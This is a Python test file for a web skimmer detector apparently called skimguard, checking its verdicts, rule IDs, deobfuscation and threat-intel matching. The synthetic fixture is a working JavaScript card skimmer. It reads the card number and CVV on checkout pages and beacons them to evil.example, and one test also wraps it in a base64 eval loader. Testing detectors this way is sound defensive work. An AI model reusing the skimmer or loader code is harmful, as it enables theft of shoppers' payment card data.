"""The engine end to end: extraction -> normalization -> rules + structure + intel -> verdict.

Fixtures are written here (synthetic); exact verdicts, rule IDs and file positions.
"""

from __future__ import annotations

import hashlib

from skimguard.analyze.engine import MALICIOUS_AT, Options, analyze_bytes, catalog, judge
from skimguard.analyze.model import CodeHit, Language, Layer, Verdict
from skimguard.intel import IntelIndex, parse_feed
from skimguard.models import Confidence, Severity

SKIMMER = (
    'document.addEventListener("blur", function () {\n'
    '  if (location.href.indexOf("checkout") > -1) {\n'
    '    var d = btoa(document.getElementById("cc_number").value + "|" + document.getElementById("cvv").value);\n'
    '    new Image().src = "https://evil.example/gate.php?d=" + d;\n'
    "  }\n"
    "}, true);\n"
)
PLAIN = "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));\n"


def rule_ids(data: bytes, path: str, options: Options | None = None) -> list[str]:
    return sorted(h.rule_id for h in analyze_bytes(data, path, options).hits)


def test_a_checkout_gated_card_skimmer_is_malicious_and_explained() -> None:
    v = analyze_bytes(SKIMMER.encode(), "assist.js")
    assert (v.verdict, v.language) == (Verdict.MALICIOUS, Language.JS)
    assert v.sha256 == hashlib.sha256(SKIMMER.encode()).hexdigest() and v.size == len(SKIMMER)
    assert "SG440" in {h.rule_id for h in v.hits}
    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
    assert sg440.severity is Severity.CRITICAL and sg440.layer is Layer.STRUCTURE
    assert sg440.explanation and sg440.line >= 1
    assert {"reads-card-field", "network-sink", "checkout-gate"} <= set(v.traits)
    assert v.score >= MALICIOUS_AT


def test_plain_code_is_clean_with_no_hits() -> None:
    v = analyze_bytes(PLAIN.encode(), "math.js")
    assert (v.verdict, v.score, v.hits, v.problems) == (Verdict.CLEAN, 0, (), ())


def test_a_skimmer_inside_html_is_placed_at_its_line_in_the_page() -> None:
    page = "<!doctype html>\n<html><head><title>Checkout</title></head>\n<body>\n<script>\n" + SKIMMER + "</script>\n"
    v = analyze_bytes(page.encode(), "checkout.html")
    assert v.verdict is Verdict.MALICIOUS and v.language is Language.HTML
    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
    # "<script>" is on line 4, so the skimmer's first line is line 5 and its sink (line 4) is line 8.
    assert (sg440.line, sg440.normalized) == (8, False)
    assert sg440.excerpt.startswith("new Image().src")


def test_obfuscation_is_undone_before_the_rules_and_marked_decoded() -> None:
    hidden = "eval(atob('" + __import__("base64").b64encode(SKIMMER.encode()).decode() + "'));"
    v = analyze_bytes(hidden.encode(), "loader.js")
    assert v.verdict is Verdict.MALICIOUS
    assert any(t.startswith("decoded:") for t in v.traits)
    assert next(h for h in v.hits if h.rule_id == "SG440").normalized is True


def test_known_good_hash_short_circuits() -> None:
    digest = hashlib.sha256(SKIMMER.encode()).hexdigest()
    v = analyze_bytes(SKIMMER.encode(), "assist.js", Options(known_good={digest}))
    assert (v.verdict, v.hits, v.problems) == (Verdict.CLEAN, (), ("known good (by hash)",))


def test_intel_adds_sg450_only_when_a_feed_is_loaded() -> None:
    code = b'var u = "https://static.magecart-cdn.example/i.gif";'
    feed = IntelIndex.build(parse_feed("magecart-cdn.example\n", "feed").indicators)
    assert "SG450" not in rule_ids(code, "x.js")
    hits = analyze_bytes(code, "x.js", Options(intel=feed)).hits
    sg450 = next(h for h in hits if h.rule_id == "SG450")
    assert (sg450.severity, sg450.line, sg450.column) == (Severity.HIGH, 1, 10)
    assert "magecart-cdn.example" in sg450.explanation


def test_bad_input_is_a_partial_result_not_a_crash() -> None:
    latin1 = b"var s = '\xe9\xe8';\n" + PLAIN.encode()
    v = analyze_bytes(latin1, "x.js")
    assert v.verdict is Verdict.CLEAN and v.problems == ("not UTF-8: read as Latin-1",)
    huge = b"var a=1;\n" * (300 * 1024)  # 2.9 MB
    v = analyze_bytes(huge, "big.js")
    assert v.problems == ("too large: the first 2 MiB analysed",) and v.size == len(huge)


def test_judge_weighs_severity_and_confidence() -> None:
    def hit(rule: str, severity: Severity, confidence: Confidence = Confidence.MEDIUM) -> CodeHit:
        return CodeHit(rule, Layer.RULE, severity, confidence, "t", "e")

    assert judge([]) == (0, Verdict.CLEAN)
    assert judge([hit("SG401", Severity.LOW), hit("SG404", Severity.LOW)]) == (2, Verdict.CLEAN)
    assert judge([hit("SG405", Severity.MEDIUM), hit("SG404", Severity.LOW)]) == (4, Verdict.SUSPICIOUS)
    assert judge([hit("SG421", Severity.HIGH, Confidence.LOW)]) == (3, Verdict.SUSPICIOUS)
    assert judge([hit("SG421", Severity.HIGH), hit("SG405", Severity.MEDIUM), hit("SG404", Severity.LOW)]) == (
        10,
        Verdict.MALICIOUS,
    )
    assert judge([hit("SG442", Severity.HIGH)]) == (6, Verdict.MALICIOUS)  # a fake payment form convicts
    assert judge([hit("SG440", Severity.HIGH)]) == (6, Verdict.SUSPICIOUS)  # only critical SG440 convicts


def test_the_catalog_documents_every_rule_once() -> None:
    ids = [r.rule_id for r in catalog()]
    assert ids == sorted(set(ids)) and "SG450" in ids
    assert all(i.startswith("SG4") for i in ids)
    assert all(r.title and r.description for r in catalog())
